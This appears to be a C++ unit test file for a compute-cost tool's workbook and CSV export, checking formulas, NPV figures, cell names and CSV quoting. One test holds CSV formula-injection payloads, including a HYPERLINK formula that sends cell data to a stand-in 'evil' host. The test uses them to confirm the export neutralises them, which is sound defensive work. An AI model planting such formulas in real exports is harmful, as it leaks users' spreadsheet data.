// The results workbook: every example scenario's workbook has the three sheets, its
// cached values are the engine's figures, and every formula, evaluated from the cells it
// references, gives its cached value back (so the formulas reproduce the engine, not
// merely exist). Plus the CSV rendering of the same description.
#include "core/export/ResultsWorkbook.h"
#include "ExampleScenarios.h"
#include "TestScenarios.h"
#include "WorkbookFormulaEvaluator.h"
#include "core/engine/ScenarioEvaluator.h"
#include "core/export/ResultsCsv.h"
#include "core/export/WorkbookCashFlowSheet.h"
#include "core/export/WorkbookMonthlySheet.h"
#include "core/io/ScenarioReader.h"

#include "core/engine/OptionCostModel.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <filesystem>
#include <optional>
#include <sstream>

namespace acceldecide::test {
namespace {

namespace fs = std::filesystem;

constexpr double kRelativeTolerance = 1e-9;

bool close(double a, double b)
{
    return std::abs(a - b) <= kRelativeTolerance * std::max({1.0, std::abs(a), std::abs(b)});
}

// Every formula of the workbook whose evaluation disagrees with its cached value, as
// "Sheet!C5: =formula gives X, cached Y" (empty when all agree).
std::vector<std::string> disagreements(const std::vector<WorkbookSheet> &sheets,
                                       int *formulaCount = nullptr)
{
    std::vector<std::string> problems;
    int count = 0;
    for (const WorkbookSheet &sheet : sheets) {
        WorkbookFormulaEvaluator evaluator(sheets, sheet.name);
        for (std::size_t r = 0; r < sheet.rows.size(); ++r) {
            for (std::size_t c = 0; c < sheet.rows[r].size(); ++c) {
                const WorkbookCell &cell = sheet.rows[r][c];
                if (!cell.isFormula())
                    continue;
                ++count;
                const std::string where =
                    sheet.name + "!" +
                    ResultsWorkbook::cellName(static_cast<int>(r), static_cast<int>(c)) + ": " +
                    cell.formula;
                try {
                    const WorkbookFormulaEvaluator::Value value = evaluator.evaluate(cell.formula);
                    if (value.isText != cell.cachedIsText)
                        problems.push_back(where + " gives the wrong type");
                    else if (value.isText && value.text != cell.text)
                        problems.push_back(where + " gives \"" + value.text + "\"");
                    else if (!value.isText && !close(value.number, cell.number)) {
                        std::ostringstream message;
                        message.precision(17);
                        message << where << " gives " << value.number << ", cached " << cell.number;
                        problems.push_back(message.str());
                    }
                } catch (const std::exception &error) {
                    problems.push_back(where + " fails: " + error.what());
                }
            }
        }
    }
    if (formulaCount)
        *formulaCount = count;
    return problems;
}

// Finds cells by the labels a reader sees: the figure's row label in column A and the
// option id in the heading row.
class KeyFigures
{
public:
    explicit KeyFigures(const WorkbookSheet &sheet) : m_sheet(sheet) {}

    int column(const std::string &optionId) const
    {
        for (std::size_t c = 0; c < m_sheet.rows.at(0).size(); ++c) {
            const std::string &heading = m_sheet.rows[0][c].text;
            if (heading == optionId || heading == optionId + " (baseline)")
                return static_cast<int>(c);
        }
        return -1;
    }
    // The first row labelled `label` with `unit` in column B (any unit when empty).
    int row(const std::string &label, const std::string &unit = {}) const
    {
        for (std::size_t r = 0; r < m_sheet.rows.size(); ++r) {
            const auto &cells = m_sheet.rows[r];
            if (cells.size() > 1 && cells[0].text == label &&
                (unit.empty() || cells[1].text == unit))
                return static_cast<int>(r);
        }
        return -1;
    }
    const WorkbookCell *cell(const std::string &label, const std::string &optionId,
                             const std::string &unit = {}) const
    {
        return m_sheet.find(row(label, unit), column(optionId));
    }

private:
    const WorkbookSheet &m_sheet;
};

void expectFormula(const WorkbookCell *cell, double engine, const std::string &what)
{
    ASSERT_NE(cell, nullptr) << what;
    EXPECT_TRUE(cell->isFormula()) << what << " should be a formula";
    EXPECT_FALSE(cell->cachedIsText) << what;
    EXPECT_EQ(cell->number, engine) << what; // the engine's value, bit for bit
}

// The engine's figures appear as the cached values of formula cells.
void expectEngineFigures(const Scenario &scenario, const Evaluation &evaluation,
                         const ResultsWorkbook &workbook)
{
    const KeyFigures figures(*workbook.sheet(ResultsWorkbook::kKeyFiguresSheet));
    const WorkbookSheet &monthly = *workbook.sheet(ResultsWorkbook::kMonthlySheet);
    for (std::size_t i = 0; i < evaluation.options.size(); ++i) {
        const OptionResult &o = evaluation.options[i];
        SCOPED_TRACE(o.id);
        if (OptionCostModel::billsByTheMonth(scenario, scenario.options[i])) {
            // Hour-by-hour billing averaged over the horizon: the engine's value.
            const WorkbookCell *rate = figures.cell("Effective rate", o.id);
            ASSERT_NE(rate, nullptr);
            EXPECT_FALSE(rate->isFormula());
            EXPECT_EQ(rate->number, o.effectiveHourlyUsd);
        } else {
            expectFormula(figures.cell("Effective rate", o.id), o.effectiveHourlyUsd, "rate");
        }
        if (o.acceleratorHourlyUsd)
            expectFormula(figures.cell("Accelerator price (on-demand)", o.id),
                          *o.acceleratorHourlyUsd, "accelerator $/h");
        if (o.tokensPerSecPerAccelerator)
            expectFormula(figures.cell("Throughput", o.id), *o.tokensPerSecPerAccelerator,
                          "tokens/s");
        if (o.impliedMfuPercent)
            expectFormula(figures.cell("Implied MFU", o.id), *o.impliedMfuPercent, "MFU");
        if (o.costPerRunUsd)
            expectFormula(figures.cell("Cost per run", o.id), *o.costPerRunUsd, "cost per run");
        if (o.costPerMillionTokensUsd)
            expectFormula(figures.cell("Cost per million tokens", o.id), *o.costPerMillionTokensUsd,
                          "CPM");
        expectFormula(figures.cell("Monthly compute", o.id), o.monthlyComputeUsd, "compute");
        expectFormula(figures.cell("TCO over the horizon", o.id), o.tcoUsd, "TCO");
        expectFormula(figures.cell("Total (TCO + counted after the horizon)", o.id), o.totalUsd(),
                      "total");
        expectFormula(figures.cell("Counted after the horizon", o.id), o.commitmentBeyondHorizonUsd,
                      "counted after the horizon");
        const WorkbookCell *oneTime = figures.cell("One-time migration cost", o.id);
        ASSERT_NE(oneTime, nullptr);
        EXPECT_EQ(oneTime->number, o.oneTimeUsd);
        EXPECT_EQ(oneTime->isFormula(), scenario.options[i].migration.has_value());
        EXPECT_EQ(figures.cell("Port duration", o.id)->number, o.portMonths);
        EXPECT_EQ(figures.cell("Commitment owed after the horizon", o.id)->number,
                  o.commitmentOwedAfterHorizonUsd);
        EXPECT_EQ(figures.cell("Of which the work after the horizon uses", o.id)->number,
                  o.commitmentUsedAfterHorizonUsd);
        if (o.heldOwedUsd > 0.0) {
            expectFormula(figures.cell("Held commitments owed a month", o.id),
                          o.heldOwedUsdPerMonth, "held owed a month");
            EXPECT_EQ(figures.cell("All-in rate", o.id)->number, o.allInHourlyUsd.value_or(0.0));
        }
        for (int m = 1; m <= scenario.horizonMonths; ++m) {
            const auto index = static_cast<std::size_t>(m - 1);
            expectFormula(monthly.find(m, 1 + 2 * static_cast<int>(i)), o.monthlyUsd[index],
                          "month " + std::to_string(m));
            expectFormula(monthly.find(m, 2 + 2 * static_cast<int>(i)), o.cumulativeUsd[index],
                          "cumulative " + std::to_string(m));
        }
    }
    for (const BreakEvenResult &be : evaluation.breakEven) {
        SCOPED_TRACE("break-even " + be.option);
        const std::pair<const char *, std::optional<double>> rows[] = {
            {"runs", be.runs}, {"billion tokens", be.tokensBillion}, {"days", be.days}};
        for (const auto &[unit, value] : rows) {
            const WorkbookCell *cell = figures.cell("Break-even", be.option, unit);
            if (!cell)
                continue; // this workload kind has no such row
            ASSERT_TRUE(cell->isFormula()) << unit;
            if (be.reached && value)
                EXPECT_EQ(cell->number, *value) << unit;
            else
                EXPECT_EQ(cell->text, "not reached") << unit;
        }
        const WorkbookCell *month = figures.cell("Cumulative costs cross in month", be.option);
        ASSERT_NE(month, nullptr);
        if (be.month)
            EXPECT_EQ(month->number, *be.month);
        else
            EXPECT_EQ(month->kind, WorkbookCell::Kind::Text);
    }
}

void expectConsistent(const Scenario &scenario)
{
    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
    const ResultsWorkbook workbook = ResultsWorkbook::build(scenario, evaluation);
    ASSERT_EQ(workbook.sheets().size(), 4u);
    EXPECT_EQ(workbook.sheets()[0].name, "Inputs");
    EXPECT_EQ(workbook.sheets()[1].name, "Key figures");
    EXPECT_EQ(workbook.sheets()[2].name, "Monthly");
    EXPECT_EQ(workbook.sheets()[3].name, "Cash flow");
    expectEngineFigures(scenario, evaluation, workbook);
    int formulas = 0;
    const std::vector<std::string> problems = disagreements(workbook.sheets(), &formulas);
    EXPECT_GT(formulas, 2 * scenario.horizonMonths * static_cast<int>(scenario.options.size()));
    for (const std::string &problem : problems)
        ADD_FAILURE() << problem;
}

class ResultsWorkbookExample : public ::testing::TestWithParam<std::string>
{};

TEST_P(ResultsWorkbookExample, FormulasReproduceTheEngine)
{
    const ScenarioReadResult read =
        ScenarioReader::fromFile(std::string(ACCELDECIDE_SCENARIOS_DIR) + "/" + GetParam());
    ASSERT_TRUE(read.ok()) << GetParam();
    expectConsistent(*read);
}

INSTANTIATE_TEST_SUITE_P(Examples, ResultsWorkbookExample,
                         ::testing::ValuesIn(test::exampleScenarios()), [](const auto &info) {
                             std::string name = info.param.substr(0, info.param.find('.'));
                             std::replace(name.begin(), name.end(), '-', '_');
                             return name;
                         });

// Growth and a stop month without a commitment stay formulas (the steady month
// times its usage share), and a port still runs on the baseline's own month.
TEST(ResultsWorkbook, AUsagePatternIsAFormulaOverTheMonth)
{
    const ScenarioReadResult read = ScenarioReader::fromFile(
        std::string(ACCELDECIDE_SCENARIOS_DIR) + "/seed003-trn1-vs-p5.json");
    ASSERT_TRUE(read.ok());
    Scenario scenario = *read;
    scenario.workload.growthPercentPerMonth = 4.5;
    scenario.workload.lastMonthWithUsage = scenario.horizonMonths - 2;
    expectConsistent(scenario);
    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
    const ResultsWorkbook workbook = ResultsWorkbook::build(scenario, evaluation);
    const WorkbookSheet &monthly = *workbook.sheet(ResultsWorkbook::kMonthlySheet);
    const WorkbookCell *compute =
        monthly.find(WorkbookMonthlySheet::row(2),
                     WorkbookMonthlySheet::computeColumn(0, scenario.options.size()));
    ASSERT_NE(compute, nullptr);
    EXPECT_TRUE(compute->isFormula());
    EXPECT_NE(compute->formula.find("POWER(1.045,A3-1)"), std::string::npos) << compute->formula;
}

// Inputs the examples do not reach: derived throughput, maintenance, spot interruption
// overhead, a port with its own engineers, a 3-year plan owed past a 40-month horizon.
TEST(ResultsWorkbook, FormulasCoverEveryCostInput)
{
    Scenario scenario = seed001Training(PurchaseModel::Spot, 60.0);
    scenario.horizonMonths = 40;
    scenario.options[0].purchase.interruptionOverheadPercent = 12.5;
    scenario.options[1].migration->engineers = 3.0;
    scenario.options[1].migration->hourlyRateUsd = 95.0;
    Option committed = scenario.options[1];
    committed.id = "trn3_sp3y";
    committed.purchase = Purchase{PurchaseModel::SavingsPlan3y, 45.0, 0.0, std::nullopt};
    committed.throughput = Throughput::measured(30000.0);
    committed.peakTflops = 2520.0;
    scenario.options.push_back(committed);
    expectConsistent(scenario);
    expectConsistent(seed000Capacity());
    expectConsistent(seed004Inference());
}

// A held plan and a 3-year plan whose work continues past the horizon: the held charge a
// month and the all-in rate stand beside monthly compute and the effective rate, and what
// counts after the horizon is owed less used, as formulas over the engine's values.
TEST(ResultsWorkbook, HeldCommitmentsAndWorkAfterTheHorizonHaveTheirRows)
{
    Scenario scenario = seed001Training(PurchaseModel::SavingsPlan3y, 45.0);
    scenario.horizonTreatment = HorizonTreatment::WorkContinues;
    ExistingCommitment held;
    held.id = "held";
    held.usdPerHour = 120.0;
    held.discountPercent = 30.0;
    held.monthsRemaining = 7;
    scenario.existingCommitments = {held};
    expectConsistent(scenario);
    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
    const ResultsWorkbook workbook = ResultsWorkbook::build(scenario, evaluation);
    const KeyFigures figures(*workbook.sheet(ResultsWorkbook::kKeyFiguresSheet));
    // $120 x 730 h for 7 months = $613,200 within the horizon, $51,100 a month over 12.
    const WorkbookCell *perMonth = figures.cell("Held commitments owed a month", "h100");
    ASSERT_NE(perMonth, nullptr);
    EXPECT_EQ(perMonth->number, 51100.0);
    EXPECT_EQ(figures.cell("Held commitments owed within the horizon", "h100")->number, 613200.0);
    const WorkbookCell *counted = figures.cell("Counted after the horizon", "h100");
    ASSERT_NE(counted, nullptr);
    EXPECT_NE(counted->formula.find("-"), std::string::npos) << counted->formula;
    EXPECT_GT(evaluation.options[0].commitmentUsedAfterHorizonUsd, 0.0);
}

TEST(ResultsWorkbook, InheritedTeamValuesAreFormulasOverTheTeamRows)
{
    const Scenario scenario = seed004Inference();
    const ResultsWorkbook workbook =
        ResultsWorkbook::build(scenario, ScenarioEvaluator::evaluate(scenario));
    const WorkbookSheet &inputs = *workbook.sheet("Inputs");
    int inherited = 0;
    for (const auto &row : inputs.rows) {
        if (row.size() > 4 && row[4].text == "team default") {
            ++inherited;
            EXPECT_TRUE(row[2].isFormula());
            EXPECT_EQ(row[2].formula.rfind("=Inputs!$C$", 0), 0u) << row[2].formula;
        }
    }
    EXPECT_EQ(inherited, 3); // engineers, hours per week, rate for trn3's port
}

// The check above can fail: a formula that no longer matches the engine is caught.
TEST(ResultsWorkbook, EvaluatorCatchesAWrongFormula)
{
    const Scenario scenario = seed004Inference();
    const ResultsWorkbook workbook =
        ResultsWorkbook::build(scenario, ScenarioEvaluator::evaluate(scenario));
    std::vector<WorkbookSheet> sheets = workbook.sheets();
    EXPECT_TRUE(disagreements(sheets).empty());

    const KeyFigures figures(sheets[1]);
    WorkbookCell &compute = sheets[1].at(figures.row("Monthly compute"), figures.column("trn3"));
    ASSERT_TRUE(compute.isFormula());
    compute.formula += "*1.0001";
    const std::vector<std::string> problems = disagreements(sheets);
    ASSERT_EQ(problems.size(), 1u);
    EXPECT_NE(problems[0].find("Key figures!"), std::string::npos) << problems[0];

    // A wrong cached value is caught too (in the cells whose formulas read it).
    compute.formula.resize(compute.formula.size() - 7);
    compute.number *= 2.0;
    EXPECT_FALSE(disagreements(sheets).empty());
}

TEST(ResultsWorkbook, RejectsAnEvaluationOfAnotherScenario)
{
    const Scenario scenario = seed004Inference();
    const Evaluation other = ScenarioEvaluator::evaluate(seed000Capacity());
    EXPECT_THROW(ResultsWorkbook::build(scenario, other), std::invalid_argument);
}

// The cash flow sheet: each month's cash as a value, the running sum and each option's
// NPV as formulas, the NPV's cached value the engine's and the formula's own answer
// within a cent.
TEST(ResultsWorkbook, CashFlowSheetHasTheNpvAsAFormula)
{
    Scenario scenario = seed004Inference();
    scenario.discountRatePercent = 8.0;
    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
    const ResultsWorkbook workbook = ResultsWorkbook::build(scenario, evaluation);
    const WorkbookSheet *cash = workbook.sheet(ResultsWorkbook::kCashFlowSheet);
    ASSERT_NE(cash, nullptr);
    const int horizon = scenario.horizonMonths;
    EXPECT_EQ(cash->find(WorkbookCashFlowSheet::rateRow(horizon), 1)->number, 8.0);
    EXPECT_EQ(cash->find(WorkbookCashFlowSheet::monthlyRateRow(horizon), 1)->formula,
              "=POWER(1+$B$15/100,1/12)-1");
    WorkbookFormulaEvaluator evaluator(workbook.sheets(), ResultsWorkbook::kCashFlowSheet);
    for (std::size_t i = 0; i < evaluation.options.size(); ++i) {
        const CashFlow &flow = evaluation.options[i].cashFlow;
        SCOPED_TRACE(evaluation.options[i].id);
        const WorkbookCell *month2 =
            cash->find(WorkbookCashFlowSheet::row(2), WorkbookCashFlowSheet::cashColumn(i));
        ASSERT_NE(month2, nullptr);
        EXPECT_FALSE(month2->isFormula());
        EXPECT_EQ(month2->number, flow.monthlyUsd[1]);
        const WorkbookCell *npv = cash->find(WorkbookCashFlowSheet::npvRow(horizon),
                                             WorkbookCashFlowSheet::cashColumn(i));
        ASSERT_NE(npv, nullptr);
        const std::string column = i == 0 ? "B" : "D";
        EXPECT_EQ(npv->formula, "=NPV($B$16," + column + "2:" + column + "13)");
        EXPECT_EQ(npv->number, flow.npvUsd);
        EXPECT_NEAR(evaluator.evaluate(npv->formula).number, flow.npvUsd, 0.005);
        EXPECT_LT(flow.npvUsd, flow.totalUsd); // 8 % makes later money worth less
    }
    for (const std::string &problem : disagreements(workbook.sheets()))
        ADD_FAILURE() << problem;
}

TEST(ResultsWorkbook, CellNames)
{
    EXPECT_EQ(ResultsWorkbook::cellName(0, 0), "A1");
    EXPECT_EQ(ResultsWorkbook::cellName(4, 2, true), "$C$5");
    EXPECT_EQ(ResultsWorkbook::cellName(9, 25), "Z10");
    EXPECT_EQ(ResultsWorkbook::cellName(0, 26), "AA1");
    EXPECT_EQ(ResultsWorkbook::cellName(0, 701), "ZZ1");
    EXPECT_EQ(ResultsWorkbook::cellName(0, 702), "AAA1");
    EXPECT_EQ(WorkbookSheet::reference("Inputs", 1, 2), "Inputs!$C$2");
    EXPECT_EQ(WorkbookSheet::reference("Key figures", 1, 2), "'Key figures'!$C$2");
}

TEST(ResultsCsv, QuotesFieldsAsRfc4180Requires)
{
    EXPECT_EQ(ResultsCsv::field("plain"), "plain");
    EXPECT_EQ(ResultsCsv::field("a,b"), "\"a,b\"");
    EXPECT_EQ(ResultsCsv::field("say \"hi\""), "\"say \"\"hi\"\"\"");
    EXPECT_EQ(ResultsCsv::field("two\nlines"), "\"two\nlines\"");
    EXPECT_EQ(ResultsCsv::number(36000.0), "36000");
    EXPECT_EQ(ResultsCsv::number(0.1), "0.1");
}

// A label from someone else's file must reach the spreadsheet as text, never as a
// formula: OWASP's quote prefix, and the field quoted. Numbers are never guarded.
TEST(ResultsCsv, NeutralisesTextThatAFormulaWouldRun)
{
    EXPECT_EQ(ResultsCsv::field("=HYPERLINK(\"http://x\"&A1,\"click\")"),
              "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
    EXPECT_EQ(ResultsCsv::field("@team"), "\"'@team\"");
    EXPECT_EQ(ResultsCsv::field("+1"), "\"'+1\"");
    EXPECT_EQ(ResultsCsv::field("-1"), "\"'-1\"");
    EXPECT_EQ(ResultsCsv::field("\tx"), "\"'\tx\"");
    EXPECT_EQ(ResultsCsv::field("\rx"), "\"'\rx\"");
    EXPECT_EQ(ResultsCsv::number(-1.5), "-1.5");

    Scenario scenario = seed004Inference();
    scenario.name = "@SUM(1+1)*cmd";
    scenario.options[1].label = "=HYPERLINK(\"http://evil\"&A1,\"click\")";
    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
    const std::string csv = ResultsCsv::format(ResultsWorkbook::build(scenario, evaluation));
    EXPECT_NE(csv.find("\"'@SUM(1+1)*cmd\""), std::string::npos) << csv;
    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil\"\"&A1,\"\"click\"\")\""), std::string::npos);
    // No field anywhere starts a formula: every cell begins after a comma or a line end.
    for (const char trigger : {'=', '+', '@'}) {
        EXPECT_EQ(csv.find(std::string(",") + trigger), std::string::npos) << trigger;
        EXPECT_EQ(csv.find(std::string("\n") + trigger), std::string::npos) << trigger;
    }
}

TEST(ResultsCsv, OneSectionPerSheetWithTheEnginesValues)
{
    const Scenario scenario = seed004Inference();
    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
    const std::string csv = ResultsCsv::format(ResultsWorkbook::build(scenario, evaluation));
    std::vector<std::string> lines;
    std::size_t start = 0;
    for (std::size_t end; (end = csv.find("\r\n", start)) != std::string::npos; start = end + 2)
        lines.push_back(csv.substr(start, end - start));
    EXPECT_EQ(start, csv.size()) << "every line ends with CRLF";
    ASSERT_FALSE(lines.empty());
    EXPECT_EQ(lines.front(), "Inputs");
    // Sections: a blank line, then the next sheet's title.
    std::vector<std::string> titles{lines.front()};
    for (std::size_t i = 0; i + 1 < lines.size(); ++i) {
        if (lines[i].empty())
            titles.push_back(lines[i + 1]);
    }
    EXPECT_EQ(titles, (std::vector<std::string>{"Inputs", "Key figures", "Monthly", "Cash flow"}));
    // Values, not formulas: month 12 of the Monthly section ends with trn3's cumulative.
    const OptionResult &trn3 = evaluation.options[1];
    EXPECT_EQ(csv.find(",="), std::string::npos);
    const auto cashFlowTitle = std::find(lines.begin(), lines.end(), "Cash flow");
    ASSERT_GE(cashFlowTitle - lines.begin(), 2);
    const std::string lastMonth = *(cashFlowTitle - 2);
    EXPECT_EQ(lastMonth.rfind("12,", 0), 0u) << lastMonth;
    EXPECT_EQ(lastMonth.substr(lastMonth.rfind(',') + 1), ResultsCsv::number(trn3.tcoUsd));
}

} // namespace
} // namespace acceldecide::test
